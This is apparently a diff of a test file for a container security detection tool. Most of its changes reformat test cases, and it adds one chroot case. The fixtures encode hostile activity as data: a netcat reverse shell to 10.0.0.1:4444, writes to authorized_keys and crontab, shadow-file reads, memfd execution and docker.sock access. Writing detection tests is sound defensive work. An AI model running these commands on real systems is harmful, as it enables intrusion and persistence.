@@ -89,9 +89,7 @@ def priv(
     )
 
 
-def conn(
-    dport: int, daddr: str = "203.0.113.9", op: str = "connect", family: int = socket.AF_INET
-) -> NetConnect:
+def conn(dport: int, daddr: str = "203.0.113.9", op: str = "connect", family: int = socket.AF_INET) -> NetConnect:
     return NetConnect(
         ts=1000.0,
         cgroup_id=77,
@@ -108,9 +106,7 @@ def conn(
     )
 
 
-def audit(
-    syscall: str, paths: tuple[str, ...], fields: dict[str, str] | None = None, exit_: int = 3
-) -> AuditEvent:
+def audit(syscall: str, paths: tuple[str, ...], fields: dict[str, str] | None = None, exit_: int = 3) -> AuditEvent:
     return AuditEvent(
         ts=1000.0,
         cgroup_id=77,
@@ -183,9 +179,7 @@ CASES = [
     Case("docker-exec-shell", "RG-0001", exe("sh", parent="containerd-shim"), None),
     Case("runc-init-parent", "RG-0001", exe("sh", parent="runc:[2:INIT]"), None),
     Case("long-shim-name-truncated", "RG-0001", exe("bash", parent="containerd-shim"), None),
-    Case(
-        "entrypoint-is-init", "RG-0001", exe("sh", pid=INIT_PID, parent="dockerd"), None, {"init": INIT_PID}
-    ),
+    Case("entrypoint-is-init", "RG-0001", exe("sh", pid=INIT_PID, parent="dockerd"), None, {"init": INIT_PID}),
     Case("unknown-parent", "RG-0001", exe("sh", parent=""), None),
     Case("not-a-shell", "RG-0001", exe("ls", parent="httpd"), None),
     Case("sshd-session", "RG-0001", exe("bash", parent="sshd"), None),
@@ -203,9 +197,7 @@ CASES = [
         fopen("/home/app/.ssh/authorized_keys", write=True),
         {"mitre": "T1098.004"},
     ),
-    Case(
-        "write-etc", "RG-0002", fopen("/etc/crontab", write=True), {"write": True, "severity": Severity.HIGH}
-    ),
+    Case("write-etc", "RG-0002", fopen("/etc/crontab", write=True), {"write": True, "severity": Severity.HIGH}),
     Case("read-etc-plain", "RG-0002", fopen("/etc/hosts"), None),
     Case(
         "failed-read-shadow",
@@ -238,9 +230,7 @@ CASES = [
     ),
     Case("busybox-dpkg", "RG-0003", exe("dpkg", "/bin/dpkg", ("dpkg", "-l")), {"tool": "dpkg"}),
     Case("apk-add", "RG-0003", exe("apk", "/sbin/apk", ("apk", "add", "curl")), {"tool": "apk"}),
-    Case(
-        "pip-install", "RG-0003", exe("pip", "/usr/bin/pip", ("pip", "install", "requests")), {"tool": "pip"}
-    ),
+    Case("pip-install", "RG-0003", exe("pip", "/usr/bin/pip", ("pip", "install", "requests")), {"tool": "pip"}),
     Case("pip-list", "RG-0003", exe("pip", "/usr/bin/pip", ("pip", "list")), None),
     Case("npm-i", "RG-0003", exe("npm", "/usr/bin/npm", ("npm", "i", "left-pad")), {"tool": "npm"}),
     Case("npm-start", "RG-0003", exe("npm", "/usr/bin/npm", ("npm", "start")), None),
@@ -255,9 +245,7 @@ CASES = [
     Case("tmp-binary", "RG-0004", exe("x", "/tmp/x"), {"why": "writable_dir", "filename": "/tmp/x"}),
     Case("dev-shm", "RG-0004", exe("kworker", "/dev/shm/.k"), {"why": "writable_dir"}),
     Case("var-tmp", "RG-0004", exe("a", "/var/tmp/a"), {"why": "writable_dir"}),
-    Case(
-        "memfd-origin", "RG-0004", exe("3", "/dev/fd/3", origin="memfd"), {"why": "memfd", "mitre": "T1620"}
-    ),
+    Case("memfd-origin", "RG-0004", exe("3", "/dev/fd/3", origin="memfd"), {"why": "memfd", "mitre": "T1620"}),
     Case("memfd-name", "RG-0004", exe("x", "/memfd:payload (deleted)"), {"why": "memfd"}),
     Case("deleted-origin", "RG-0004", exe("x", "/usr/bin/x", origin="deleted"), {"why": "deleted"}),
     Case("usr-bin", "RG-0004", exe("ls", "/usr/bin/ls"), None),
@@ -282,9 +270,7 @@ CASES = [
     ),
     Case("snapshot-empty", "RG-0004", snap(), None),
     # --- RG-0005 reverse shells --------------------------------------------------------
-    Case(
-        "nc-e", "RG-0005", exe("nc", argv=("nc", "10.0.0.1", "4444", "-e", "/bin/sh")), {"how": "-e /bin/sh"}
-    ),
+    Case("nc-e", "RG-0005", exe("nc", argv=("nc", "10.0.0.1", "4444", "-e", "/bin/sh")), {"how": "-e /bin/sh"}),
     Case(
         "busybox-nc-e",
         "RG-0005",
@@ -349,9 +335,7 @@ CASES = [
     Case("capset", "RG-0006", priv("capset", uid=0), {"severity": Severity.LOW}),
     Case("runc-capset", "RG-0006", priv("capset", uid=0, comm="runc:[2:INIT]"), None),
     # --- RG-0007 ptrace ---------------------------------------------------------------
-    Case(
-        "ptrace-attach", "RG-0007", priv("ptrace", (16, 77)), {"request": "PTRACE_ATTACH", "target_pid": 77}
-    ),
+    Case("ptrace-attach", "RG-0007", priv("ptrace", (16, 77)), {"request": "PTRACE_ATTACH", "target_pid": 77}),
     Case("ptrace-seize", "RG-0007", priv("ptrace", (0x4206, 77)), {"request": "PTRACE_SEIZE"}),
     Case("ptrace-traceme", "RG-0007", priv("ptrace", (0, 0)), None),
     Case("ptrace-peek", "RG-0007", priv("ptrace", (2, 77)), None),
@@ -366,6 +350,7 @@ CASES = [
     ),
     Case("setns", "RG-0008", priv("__x64_sys_setns", uid=0), {"syscall": "setns"}),
     Case("runc-mount", "RG-0008", priv("mount", uid=0, comm="runc:[2:INIT]"), None),
+    Case("chroot", "RG-0008", priv("chroot", uid=0), {"severity": Severity.MEDIUM}),
     Case("setuid-not-ns", "RG-0008", priv("setuid", (0,)), None),
     # --- RG-0009 kernel modules --------------------------------------------------------
     Case("finit-module-failed", "RG-0009", priv("finit_module", ret=-1), {"severity": Severity.HIGH}),
@@ -396,9 +381,7 @@ CASES = [
     Case("open-shadow-not-here", "RG-0011", fopen("/etc/shadow"), None),
     Case("unix-connect", "RG-0011", conn(0, "/run/docker.sock", family=socket.AF_UNIX), {"how": "connect"}),
     Case("inet-connect-not-here", "RG-0011", conn(2375), None),
-    Case(
-        "audit-path", "RG-0011", audit("connect", ("/var/run/docker.sock",)), {"path": "/var/run/docker.sock"}
-    ),
+    Case("audit-path", "RG-0011", audit("connect", ("/var/run/docker.sock",)), {"path": "/var/run/docker.sock"}),
     Case(
         "audit-saddr",
         "RG-0011",
